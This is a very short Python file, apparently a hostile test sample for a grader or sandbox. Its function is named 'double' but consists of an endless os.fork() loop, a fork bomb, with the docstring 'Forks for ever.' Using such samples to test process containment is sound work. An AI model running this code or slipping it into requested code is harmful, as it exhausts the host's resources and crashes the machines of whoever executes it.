"""Forks for ever."""

import os


def double(x):
    while True:
        os.fork()
